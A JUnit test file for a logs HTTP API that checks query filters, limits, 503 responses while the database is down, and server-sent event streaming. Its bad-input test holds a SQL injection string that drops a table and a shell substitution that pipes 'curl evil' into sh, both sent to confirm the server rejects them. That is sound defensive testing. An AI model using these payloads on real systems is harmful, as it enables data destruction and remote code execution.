package heyken.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.typesafe.config.ConfigFactory;
import de.bwaldvogel.mongo.MongoServer;
import de.bwaldvogel.mongo.backend.memory.MemoryBackend;
import heyken.actors.audit.AuditTrail;
import heyken.actors.logs.LogRow;
import heyken.actors.logs.LogSettings;
import heyken.actors.logs.LogStore;
import heyken.actors.logs.LogWriter;
import heyken.actors.postgres.PostgresDatabase;
import heyken.testkit.postgres.PostgresServer;
import java.io.File;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.apache.pekko.actor.testkit.typed.javadsl.ActorTestKit;
import org.apache.pekko.http.javadsl.Http;
import org.apache.pekko.http.javadsl.ServerBinding;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The Logger API over real HTTP on loopback against a real PostgreSQL log store: filters, bad input, the store
 * away (503), and the live tail as server-sent events.
 */
class LoggerRoutesTest {

  private static final MongoServer mongo = new MongoServer(new MemoryBackend());
  private static ActorTestKit testKit;
  private static ServerBinding binding;
  private static LogWriter writer;
  private static final HttpClient http = HttpClient.newHttpClient();

  @BeforeAll
  static void start() throws Exception {
    mongo.bind("127.0.0.1", 0);
    var config = ConfigFactory.parseString("""
            heyken.mongo.uri = "mongodb://127.0.0.1:%d/heyken"
            heyken.postgres { url = "", host = "%s", port = %d, database = "%s", user = "%s", password = "%s" }
            heyken.logs.max-query-limit = 50
            heyken.logs.stream.poll-interval = 100ms
            heyken.logs.stream.heartbeat = 300ms
            pekko.actor.provider = local
            """.formatted(mongo.getLocalAddress().getPort(), PostgresServer.shared().host(),
            PostgresServer.shared().port(), PostgresServer.shared().createDatabase("routes"),
            PostgresServer.shared().user(), PostgresServer.shared().password()))
        .withFallback(ConfigFactory.parseFile(new File("../application.conf")))
        .withFallback(ConfigFactory.defaultReference()).resolve();
    testKit = ActorTestKit.create("logger-routes-test", config);
    var system = testKit.system();
    var db = PostgresDatabase.get(system);
    db.ready().toCompletableFuture().get(60, TimeUnit.SECONDS);
    var logs = new LogStore(db, LogSettings.from(config));
    var routes = new LoggerRoutes(logs, Auth.from(config), logs.settings().maxQueryLimit(),
        new AuditRoutes(new AuditTrail(system)));
    binding = Http.get(system).newServerAt("127.0.0.1", 0).bind(routes.route())
        .toCompletableFuture().get(10, TimeUnit.SECONDS);
    writer = new LogWriter(db);
  }

  @AfterAll
  static void stop() {
    binding.unbind();
    testKit.shutdownTestKit();
    mongo.shutdownNow();
  }

  private static URI uri(String pathAndQuery) {
    return URI.create("http://127.0.0.1:" + binding.localAddress().getPort() + pathAndQuery);
  }

  private static HttpResponse<String> get(String pathAndQuery) throws Exception {
    return http.send(HttpRequest.newBuilder(uri(pathAndQuery)).build(), HttpResponse.BodyHandlers.ofString());
  }

  private static JsonNode json(HttpResponse<String> response) throws Exception {
    return Json.MAPPER.readTree(response.body());
  }

  private static String enc(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8);
  }

  private static void insert(Instant at, String component, String message, String feature, String run) {
    var mdc = feature == null ? null : java.util.Map.of("feature", feature, "run", run);
    writer.write(List.of(new LogRow(heyken.actors.logs.LogBuffer.nextId(1), LogRow.micros(at), "INFO", 1, 1L,
        component, "heyken.test", "t", message, null, mdc, feature, run, null, null, null)));
  }

  @Test
  void featureAndRunFilterTheLinesOfOneRun() throws Exception {
    insert(Instant.now().minusSeconds(5), "sandbox", "output of run a", "5", "run-a");
    insert(Instant.now().minusSeconds(4), "sandbox", "output of run b", "5", "run-b");
    var response = get("/api/logs?feature=5&run=run-a");
    assertEquals(200, response.statusCode());
    var lines = json(response).get("logs");
    assertEquals(1, lines.size());
    assertEquals("output of run a", lines.get(0).get("message").asText());
    assertEquals("run-a", lines.get(0).get("mdc").get("run").asText());
    assertTrue(json(response).has("next"));
  }

  @Test
  void anAbsurdLimitGetsAtMostTheMaximum() throws Exception {
    for (int i = 0; i < 60; i++) {
      insert(Instant.now().minusSeconds(100 + i), "core", "filler " + i, null, null);
    }
    var response = get("/api/logs?limit=1000000000");
    assertEquals(200, response.statusCode());
    assertEquals(50, json(response).get("logs").size());
    assertTrue(!json(response).get("next").isNull(), "there is more: the next page is offered");
  }

  @Test
  void badInputIsAClearBadRequestNeverAServerError() throws Exception {
    String sql = enc("' OR 1=1; DROP TABLE heyken_logs; --");
    String shell = enc("$(curl evil | sh)");
    var cases = List.of(
        new String[] {"/api/logs?levle=ERROR", "unknown_parameter"},
        new String[] {"/api/logs?limit=-1", "invalid_limit"},
        new String[] {"/api/logs?limit=" + enc("10^9"), "invalid_limit"},
        new String[] {"/api/logs?limit=99999999999999999999999", "invalid_limit"},
        new String[] {"/api/logs?since=yesterday", "invalid_time"},
        new String[] {"/api/logs?since=-1h&until=-2h", "invalid_range"},
        new String[] {"/api/logs?until=" + enc("+999999999-12-31T23:59:59Z"), "invalid_time"},
        new String[] {"/api/logs?component=" + sql, "invalid_component"},
        new String[] {"/api/logs?feature=" + sql, "invalid_feature"},
        new String[] {"/api/logs?run=" + shell, "invalid_run"},
        new String[] {"/api/logs?core=" + sql, "invalid_core"},
        new String[] {"/api/logs?level=" + shell, "invalid_level"},
        new String[] {"/api/logs?after=" + sql, "invalid_cursor"},
        new String[] {"/api/logs/stream?run=" + shell, "invalid_run"},
        new String[] {"/api/logs/stream?since=soon", "invalid_time"},
        new String[] {"/api/logs/stream?after=abc", "invalid_parameter"});
    for (String[] c : cases) {
      var response = get(c[0]);
      assertEquals(400, response.statusCode(), c[0] + " -> " + response.body());
      assertEquals(c[1], json(response).get("error").asText(), c[0]);
      assertTrue(json(response).get("detail").asText().length() > 10, c[0]);
    }
    // text to look for is matched literally: a bounded, ordinary answer
    var literal = get("/api/logs?contains=" + sql);
    assertEquals(200, literal.statusCode());
    assertEquals(0, json(literal).get("logs").size());
    // a 100 KB value never reaches the query: refused by the server or by the parser, with a 4xx
    var huge = get("/api/logs?contains=" + "x".repeat(100_000));
    assertTrue(huge.statusCode() >= 400 && huge.statusCode() < 500, "got " + huge.statusCode());
  }

  @Test
  void aStoreThatIsAwayIsA503ThatSaysSoNotA500() throws Exception {
    // a real server, migrated, then killed: the pool's connections and new ones fail
    var server = PostgresServer.start();
    var config = ConfigFactory.parseString("heyken.postgres { port = " + server.port() + ", database = postgres, "
            + "password = \"" + server.password() + "\", connect-timeout = 500ms }")
        .withFallback(testKit.system().settings().config());
    var kit = ActorTestKit.create("logger-routes-dead-store", config);
    try {
      var db = PostgresDatabase.get(kit.system());
      db.ready().toCompletableFuture().get(60, TimeUnit.SECONDS);
      server.kill9();
      var logs = new LogStore(db, LogSettings.from(config));
      var routes = new LoggerRoutes(logs, Auth.from(config), 50, new AuditRoutes(new AuditTrail(kit.system())));
      var bound = Http.get(kit.system()).newServerAt("127.0.0.1", 0).bind(routes.route())
          .toCompletableFuture().get(10, TimeUnit.SECONDS);
      var response = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + bound.localAddress().getPort()
          + "/api/logs?limit=10")).build(), HttpResponse.BodyHandlers.ofString());
      assertEquals(503, response.statusCode(), response.body());
      assertEquals("store_unavailable", json(response).get("error").asText());
      // and it answers again once the server is back
      server.restart();
      testKit.createTestProbe().awaitAssert(Duration.ofSeconds(30), () -> {
        try {
          var again = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + bound.localAddress().getPort()
              + "/api/logs?limit=10")).build(), HttpResponse.BodyHandlers.ofString());
          assertEquals(200, again.statusCode(), again.body());
        } catch (java.io.IOException | InterruptedException e) {
          throw new AssertionError(e);
        }
        return null;
      });
    } finally {
      kit.shutdownTestKit();
      server.close();
    }
  }

  @Test
  void theStreamSendsNewLinesAsServerSentEventsWithHeartbeats() throws Exception {
    var received = Collections.synchronizedList(new ArrayList<String>());
    var request = HttpRequest.newBuilder(uri("/api/logs/stream?component=streamed")).build();
    HttpResponse<Stream<String>> response =
        http.sendAsync(request, HttpResponse.BodyHandlers.ofLines()).get(10, TimeUnit.SECONDS);
    assertEquals(200, response.statusCode());
    assertTrue(response.headers().firstValue("content-type").orElse("").startsWith("text/event-stream"));
    var reader = CompletableFuture.runAsync(() -> response.body().forEach(received::add));
    try {
      insert(Instant.now(), "streamed", "first streamed line", null, null);
      insert(Instant.now(), "other", "not this component", null, null);
      var probe = testKit.createTestProbe();
      probe.awaitAssert(Duration.ofSeconds(10), () -> {
        assertTrue(received.stream().anyMatch(l -> l.startsWith("data:") && l.contains("first streamed line")),
            () -> "received " + received);
        return null;
      });
      insert(Instant.now(), "streamed", "second streamed line", null, null);
      probe.awaitAssert(Duration.ofSeconds(10), () -> {
        assertTrue(received.stream().anyMatch(l -> l.contains("second streamed line")));
        assertTrue(received.stream().anyMatch(l -> l.startsWith(":")), () -> "a heartbeat comment while idle: " + received);
        return null;
      });
      assertTrue(received.stream().anyMatch(l -> l.equals("event: log")));
      assertTrue(received.stream().noneMatch(l -> l.contains("not this component")));
      assertEquals(1, received.stream().filter(l -> l.contains("first streamed line")).count(), "sent once");
    } finally {
      response.body().close(); // the client goes away
      reader.cancel(true);
    }
    // the server is still fine afterwards
    assertEquals(200, get("/api/logs?limit=1").statusCode());
  }

  @Test
  void aStreamWithAnUntilInThePastSendsThatWindowAndEnds() throws Exception {
    insert(Instant.now().minus(Duration.ofMinutes(45)), "windowed", "inside the window", null, null);
    insert(Instant.now().minus(Duration.ofMinutes(10)), "windowed", "after the window", null, null);
    var response = http.send(HttpRequest.newBuilder(uri("/api/logs/stream?component=windowed&since=-1h&until=-30m"))
        .timeout(Duration.ofSeconds(20)).build(), HttpResponse.BodyHandlers.ofString());
    assertEquals(200, response.statusCode());
    assertTrue(response.body().contains("inside the window"), response.body());
    assertTrue(!response.body().contains("after the window"), response.body());
  }
}
